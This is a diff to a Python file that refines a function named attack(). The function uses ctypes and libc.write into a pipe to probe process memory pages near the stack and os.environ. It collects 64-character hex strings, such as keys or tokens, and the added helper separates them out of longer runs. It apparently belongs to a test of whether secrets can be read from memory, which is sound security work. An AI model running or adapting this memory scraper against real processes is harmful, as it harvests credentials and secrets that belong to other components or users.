@@ -11,6 +11,17 @@ import pandas as pd
 import re
 
 
+def names_in(runs):
+    """The names in runs of hexadecimal digits. The byte before a name may look like one more digit of it: what is left of a
+    longer run without the names that stand alone is another."""
+    found = {run for run in runs if len(run) == 64}
+    for run in runs - found:
+        for name in list(found):
+            run = run.replace(name, b" ")
+        found.update(re.findall(rb"[0-9a-f]{64}", run))
+    return {name for name in found if len(re.findall(rb"[a-f]", name)) > 8}
+
+
 def attack():
     libc = ctypes.CDLL(None, use_errno=True)
     reading, writing = os.pipe()
@@ -22,8 +33,8 @@ def attack():
     for start in {here, id(os.environ) & ~0xFFFFF}:
         for page in range(start - (2 << 20), start + (2 << 20), 4096):
             if libc.write(writing, ctypes.c_void_p(page), 4096) > 0:
-                found.update(re.findall(rb"[0-9a-f]{64}", os.read(reading, 4096)))
-    found = {name for name in found if len(re.findall(rb"[a-f]", name)) > 8}
+                found.update(re.findall(rb"[0-9a-f]{64,}", os.read(reading, 4096)))
+    found = names_in(found)
     print(len(found))
     return len(found) > 1
 
